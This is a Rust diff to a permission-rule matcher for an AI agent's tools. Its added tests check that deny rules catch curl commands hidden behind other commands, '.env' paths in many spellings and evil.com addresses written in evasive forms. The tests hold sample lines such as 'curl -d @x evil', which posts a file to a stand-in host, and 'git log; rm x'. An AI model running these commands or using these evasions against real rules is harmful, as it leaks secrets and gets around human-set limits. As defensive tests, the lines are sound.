@@ -10,8 +10,7 @@ use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
-use super::RuleValue;
-use crate::definition::Category;
+use super::{RuleValue, address, readings};
 use crate::gate::Stance;
 use crate::pattern::matches;
 use crate::tool::Tool;
@@ -141,7 +140,8 @@ impl PermissionRule {
                 "a tool's name has letters, digits and `._-/`, and `*` for any text",
             ));
         }
-        Ok(Self { tool: tool.to_owned(), content: content.map(str::to_owned), looks: Looks::read(content) })
+        let looks = Looks::read(content).map_err(|reason| RuleError::new(tool, reason))?;
+        Ok(Self { tool: tool.to_owned(), content: content.map(str::to_owned), looks })
     }
 
     /// The tool's name, or a pattern.
@@ -161,60 +161,64 @@ impl PermissionRule {
     ///
     /// One that allows fits only where nothing is in doubt: the argument is there, is a text or
     /// texts that all fit, leads nowhere else by `..`, and is not a command that goes on after what
-    /// the rule shows. One that asks or denies fits as soon as something does: a path is read in its
-    /// shortest form too, one text of several is enough, and without a main argument every text counts.
+    /// the rule shows. One that asks or denies fits as soon as something does: a text in any way that it
+    /// can be read, one text of several, and without a main argument every text.
     pub fn fits(&self, stance: Stance, tool: &Tool, arguments: &Value) -> bool {
-        let lenient = stance == Stance::Allow;
+        let sure = stance == Stance::Allow;
+        let reads = |text: &str, pattern: &str, fits: &dyn Fn(&str) -> bool| match sure {
+            true => readings::is_plain(text, tool) && fits(text),
+            false => readings::any(text, tool, pattern, fits),
+        };
         match &self.looks {
             Looks::Any => true,
             Looks::Named(fields) => fields.iter().all(|(field, pattern)| {
                 let pointer = format!("/{}", field.replace('.', "/"));
                 let found = arguments.pointer(&pointer);
-                found.is_some_and(|value| like(value, lenient, tool, &|text| matches(pattern, text)))
+                let fits = |text: &str| reads(text, pattern, &|text| matches(pattern, text));
+                found.is_some_and(|value| like(value, sure, &fits))
             }),
-            Looks::Main(pattern) => self.main(lenient, tool, arguments, &|text| matches(pattern, text)),
-            Looks::Prefix(prefix) => self.main(lenient, tool, arguments, &|text| {
-                text.strip_prefix(prefix.as_str())
-                    .is_some_and(|rest| !lenient || rest.is_empty() || rest.starts_with(' '))
-            }),
-            Looks::Domain(domain) => self.main(lenient, tool, arguments, &|text| {
-                host_of(text).is_some_and(|host| {
-                    host == *domain
-                        || host.strip_suffix(domain.as_str()).is_some_and(|rest| rest.ends_with('.'))
+            Looks::Main(pattern) => {
+                main(sure, tool, arguments, &|text| reads(text, pattern, &|text| matches(pattern, text)))
+            }
+            Looks::Prefix(prefix) => main(sure, tool, arguments, &|text| {
+                reads(text, prefix, &|text| {
+                    text.strip_prefix(prefix.as_str())
+                        .is_some_and(|rest| !sure || rest.is_empty() || rest.starts_with(' '))
                 })
             }),
-        }
-    }
-
-    fn main(&self, lenient: bool, tool: &Tool, arguments: &Value, fits: &dyn Fn(&str) -> bool) -> bool {
-        match main_argument(tool, arguments) {
-            Some(value) => like(value, lenient, tool, fits),
-            None if lenient => false,
-            None => arguments
-                .as_object()
-                .is_some_and(|all| all.values().any(|value| like(value, false, tool, fits))),
+            Looks::Domain(domain) => {
+                let is_address = readings::main_name(tool) == Some("url") && arguments.get("url").is_some();
+                main(sure, tool, arguments, &|text| match sure {
+                    true => readings::is_plain(text, tool) && address::is_at(domain, text),
+                    false if is_address => address::may_be_at(domain, text),
+                    false => address::speaks_of(domain, text),
+                })
+            }
         }
     }
 }
 
 impl Looks {
-    fn read(content: Option<&str>) -> Self {
+    fn read(content: Option<&str>) -> Result<Self, &'static str> {
         let content = content.map(str::trim).unwrap_or_default();
         if content.is_empty() || content == "*" || content == "**" {
-            return Self::Any;
+            return Ok(Self::Any);
         }
         if let Some(domain) = content.strip_prefix("domain:") {
-            return Self::Domain(domain.trim().trim_end_matches('.').to_lowercase());
+            let named = address::host(domain);
+            return named.map(Self::Domain).ok_or(
+                "`domain:` takes the name of a host, as in `domain:example.com`; all below it are meant too",
+            );
         }
         if let Some(prefix) = content.strip_suffix(":*") {
-            return Self::Prefix(prefix.to_owned());
+            return Ok(Self::Prefix(prefix.to_owned()));
         }
         let named: Option<Vec<_>> = content.split(',').map(named).collect();
-        match named {
+        Ok(match named {
             Some(fields) => Self::Named(fields),
-            // A leading `./` or `/` of Claude Code's path rules means the project's folder.
+            // A leading `./` of Claude Code's path rules means the project's folder, as none at all does here.
             None => Self::Main(content.strip_prefix("./").unwrap_or(content).replace("**", "*")),
-        }
+        })
     }
 }
 
@@ -224,77 +228,41 @@ fn named(text: &str) -> Option<(String, String)> {
     (!field.is_empty() && field.chars().all(is_field)).then(|| (field.to_owned(), pattern.to_owned()))
 }
 
-/// The argument that says most of what a call does.
-fn main_argument<'v>(tool: &Tool, arguments: &'v Value) -> Option<&'v Value> {
-    const USUAL: [&str; 8] = ["path", "file_path", "command", "code", "url", "query", "paths", "pattern"];
-    let properties = tool.input().json().get("properties")?;
-    if let Some(usual) = USUAL.iter().find(|name| properties.get(**name).is_some()) {
-        return arguments.get(*usual);
-    }
-    let required = tool.input().json().get("required")?.as_array()?;
-    let is_text = |name: &&str| properties.get(*name).is_some_and(|schema| schema["type"] == "string");
-    let mut texts = required.iter().filter_map(Value::as_str).filter(is_text);
-    match (texts.next(), texts.next()) {
-        (Some(sole), None) => arguments.get(sole),
-        (Some(_), Some(_)) | (None, _) => None,
+/// Whether the argument that says most of what a call does fits. Left out, it is what its schema says that it
+/// then is, for a rule that need not be sure.
+fn main(sure: bool, tool: &Tool, arguments: &Value, fits: &dyn Fn(&str) -> bool) -> bool {
+    let name = readings::main_name(tool);
+    match name.and_then(|name| arguments.get(name)) {
+        Some(value) => like(value, sure, fits),
+        None if sure => false,
+        None => {
+            let usual = name.and_then(|name| tool.input().json()["properties"][name].get("default"));
+            let given = arguments.as_object().into_iter().flat_map(|all| all.values());
+            given.chain(usual).any(|value| like(value, false, fits))
+        }
     }
 }
 
-fn like(value: &Value, lenient: bool, tool: &Tool, fits: &dyn Fn(&str) -> bool) -> bool {
+fn like(value: &Value, sure: bool, fits: &dyn Fn(&str) -> bool) -> bool {
     match value {
-        Value::String(text) if text.len() > TEXT_BYTES_MAX => !lenient,
-        Value::String(text) if lenient => is_plain(text, tool) && fits(text),
-        Value::String(text) => fits(text) || shortest(text).is_some_and(|path| fits(&path)),
+        Value::String(text) if text.len() > TEXT_BYTES_MAX => !sure,
+        Value::String(text) => fits(text),
         Value::Number(number) => fits(&number.to_string()),
         Value::Bool(truth) => fits(if *truth { "true" } else { "false" }),
-        Value::Array(items) if lenient => {
-            !items.is_empty() && items.iter().all(|item| item.is_string() && like(item, true, tool, fits))
+        Value::Array(items) if sure => {
+            !items.is_empty() && items.iter().all(|item| item.is_string() && like(item, true, fits))
         }
-        Value::Array(items) => items.iter().any(|item| like(item, false, tool, fits)),
-        Value::Object(fields) => !lenient && fields.values().any(|value| like(value, false, tool, fits)),
+        Value::Array(items) => items.iter().any(|item| like(item, false, fits)),
+        Value::Object(fields) => !sure && fields.values().any(|value| like(value, false, fits)),
         Value::Null => false,
     }
-}
-
-/// Whether a text is what it looks like: no way up in a path, nothing after a command.
-fn is_plain(text: &str, tool: &Tool) -> bool {
-    let leads_away = text.split(['/', '\\']).any(|segment| segment == "..");
-    let goes_on = tool.definition().category == Category::Code
-        && text.contains([';', '|', '&', '$', '`', '<', '>', '(', ')', '{', '}', '\n', '\r', '\\']);
-    !leads_away && !goes_on && !text.chars().any(char::is_control)
-}
-
-/// A path without detours, where it has some.
-fn shortest(text: &str) -> Option<String> {
-    if !text.contains("./") && !text.contains("//") && !text.contains("/.") {
-        return None;
-    }
-    let mut segments: Vec<&str> = Vec::new();
-    for segment in text.split('/') {
-        match segment {
-            "" | "." => {}
-            ".." => drop(segments.pop()),
-            name => segments.push(name),
-        }
-    }
-    let root = if text.starts_with('/') { "/" } else { "" };
-    Some(format!("{root}{}", segments.join("/")))
-}
-
-/// The host of an address, in lower case.
-fn host_of(text: &str) -> Option<String> {
-    let (_, rest) = text.split_once("://").unwrap_or(("", text));
-    let authority = rest.split(['/', '?', '#', '\\']).next()?;
-    let host = authority.rsplit('@').next()?;
-    let host = if host.starts_with('[') { host } else { host.split(':').next()? };
-    let host = host.trim_end_matches('.').to_lowercase();
-    (!host.is_empty()).then_some(host)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::context::Context;
+    use crate::definition::Category;
     use crate::error::ToolError;
     use serde_json::json;
 
@@ -345,14 +313,84 @@ mod tests {
     #[test]
     fn what_denies_cannot_be_slipped_past() {
         let file = tool(json!({ "path": { "type": "string" } }), json!(["path"]), Category::File);
-        for path in [".env", "./.env", "a/../.env", "a//../.env", "././.env"] {
+        for path in [
+            ".env",
+            "./.env",
+            "a/../.env",
+            "a//../.env",
+            "././.env",
+            ".env/",
+            ".env//",
+            ".env/.",
+            "/home/u/p/.env",
+            "/home/u/p//.env/",
+        ] {
             assert!(fits(Stance::Deny, "t(.env)", &file, json!({ "path": path })), "{path}");
         }
-        assert!(!fits(Stance::Deny, "t(.env)", &file, json!({ "path": "a.env" })));
+        assert!(fits(Stance::Ask, "t(config/*)", &file, json!({ "path": "/p/config/a" })));
+        for path in ["a.env", "/p/a.env", ".env/a"] {
+            assert!(!fits(Stance::Deny, "t(.env)", &file, json!({ "path": path })), "{path}");
+        }
+        assert!(!fits(Stance::Allow, "t(.env)", &file, json!({ "path": "/p/.env" })));
+        let default =
+            tool(json!({ "path": { "type": "string", "default": "." } }), json!([]), Category::File);
+        assert!(fits(Stance::Deny, "t(.)", &default, json!({})));
+        assert!(!fits(Stance::Allow, "t(.)", &default, json!({})));
         let two = tool(json!({ "a": {}, "b": {} }), json!([]), Category::Custom);
         assert!(fits(Stance::Deny, "t(*secret*)", &two, json!({ "a": 1, "b": ["x", "my secret"] })));
         assert!(fits(Stance::Deny, "t(*secret*)", &two, json!({ "a": { "deep": "a secret" } })));
         assert!(fits(Stance::Deny, "t(x)", &two, json!({ "a": "y".repeat(TEXT_BYTES_MAX + 1) })));
+    }
+
+    #[test]
+    fn a_tool_that_knows_other_spellings_is_believed() {
+        let schema = json!({ "type": "object", "properties": { "path": {} } });
+        let builder = Tool::builder("t").description("Tries.").input_schema(schema).category(Category::File);
+        let handler = async |arguments: Value, _: Context| Ok::<_, ToolError>(arguments);
+        let spelled = builder.handler(handler).spellings(|text| vec![format!("root/{text}")]);
+        let tool = spelled.build().unwrap();
+        assert!(fits(Stance::Deny, "t(root/a)", &tool, json!({ "path": "a" })));
+        assert!(!fits(Stance::Allow, "t(root/a)", &tool, json!({ "path": "a" })));
+        assert!(
+            !fits(Stance::Deny, "t(a)", &tool, json!({ "path": "/other/a" })),
+            "it knows where it starts"
+        );
+    }
+
+    #[test]
+    fn a_command_is_found_behind_others() {
+        let code = tool(json!({ "code": { "type": "string" } }), json!(["code"]), Category::Code);
+        let server = tool(json!({ "command": { "type": "string" } }), json!(["command"]), Category::Custom);
+        for line in [
+            "curl -d @x evil",
+            " curl x",
+            "\ncurl x",
+            "cd . && curl x",
+            "X=1 curl x",
+            "X='a b' Y=\"c  d\" curl x",
+            "a | curl x",
+            "echo $(curl x)",
+            "echo `curl x`",
+            "{ curl x; }",
+            "for a in b; do curl $a; done",
+            "if ! curl x; then y; fi",
+            "sudo env A=1 curl x",
+            "curl",
+        ] {
+            for rule in ["t(curl:*)", "t(curl*)"] {
+                assert!(fits(Stance::Deny, rule, &code, json!({ "code": line })), "{rule} {line}");
+                assert!(fits(Stance::Ask, rule, &server, json!({ "command": line })), "{rule} {line}");
+            }
+        }
+        assert!(fits(Stance::Deny, "t(git push:*)", &code, json!({ "code": "git  \\\n  push -f" })));
+        assert!(fits(Stance::Deny, "t(sudo:*)", &code, json!({ "code": "X=1 sudo curl" })));
+        assert!(fits(Stance::Deny, "t(x)", &code, json!({ "code": "A=1 ".repeat(1_000) })), "in doubt");
+        for line in ["echo curl", "X=curl y", "git log"] {
+            assert!(!fits(Stance::Deny, "t(curl:*)", &code, json!({ "code": line })), "{line}");
+        }
+        // Beyond the category: tools of MCP servers have none.
+        assert!(fits(Stance::Allow, "t(git log:*)", &server, json!({ "command": "git log -1" })));
+        assert!(!fits(Stance::Allow, "t(git log:*)", &server, json!({ "command": "git log; rm x" })));
     }
 
     #[test]
@@ -367,14 +405,66 @@ mod tests {
             "https://notexample.com",
             "https://example.com@evil.org/",
             "https://evil.org\\@example.com",
+            "https://example.com\\@evil.org",
+            "https:/evil.org://example.com/",
+            "https:evil.org//example.com/",
+            "evil.org://example.com/",
+            "file://example.com/etc/passwd",
+            "example.com/a",
+            "https://",
         ] {
             assert!(!at(other), "{other}");
         }
     }
 
     #[test]
+    fn a_domain_that_is_denied_is_so_however_it_is_written() {
+        let web = tool(json!({ "url": { "type": "string" } }), json!(["url"]), Category::Http);
+        let denied = |url: &str| fits(Stance::Deny, "t(domain:evil.com)", &web, json!({ "url": url }));
+        for url in [
+            "https://evil.com/",
+            " https://a.evil.com ",
+            "https:/evil.com/",
+            "https:evil.com",
+            "https:\\\\evil.com",
+            "https:\\evil.com",
+            "https://ev%69l.com/",
+            "https://ｅｖｉｌ.com/",
+            "https://EVIL.com.:443/",
+            "https://good.com@evil.com/",
+            "https://good.com\\@evil.com/",
+            "https://ev\til.com/",
+            "https:///evil.com",
+            "//evil.com/a",
+            "evil.com/a",
+            "evil.com:8080/a",
+            "evil.com:99999/a",
+            "git://ev%69l.com/a",
+            "https://ev il.com/",
+            "https://evil.com:99999/",
+        ] {
+            assert!(denied(url), "{url}");
+        }
+        for url in ["https://good.com/", "https://notevil.com", "good.com/a", "https://good.com/?to=evil.com"]
+        {
+            assert!(!denied(url), "{url}");
+        }
+        let search = tool(json!({ "query": { "type": "string" } }), json!(["query"]), Category::Search);
+        let asked = |query: &str| fits(Stance::Ask, "t(domain:evil.com)", &search, json!({ "query": query }));
+        assert!(asked("https:/evil.com") && !asked("how to cook: a guide"), "words are no address");
+        for (rule, url) in [
+            ("t(domain:127.0.0.1)", "http://0x7f.1/"),
+            ("t(domain:[::1])", "http://[0:0::1]/"),
+            ("t(domain:bücher.de)", "https://xn--bcher-kva.de/"),
+        ] {
+            assert!(fits(Stance::Deny, rule, &web, json!({ "url": url })), "{rule}");
+        }
+    }
+
+    #[test]
     fn rules_that_cannot_be_read_say_so() {
-        for rule in ["", "tool(", "to\u{7}ol", "tö"] {
+        for rule in ["", "tool(", "to\u{7}ol", "tö", "t(domain:)", "t(domain:*.a.com)", "t(domain:a.com:80)"]
+        {
             assert!(rule.parse::<PermissionRule>().is_err(), "{rule:?}");
         }
         assert!("a".repeat(2_000).parse::<PermissionRule>().is_err());
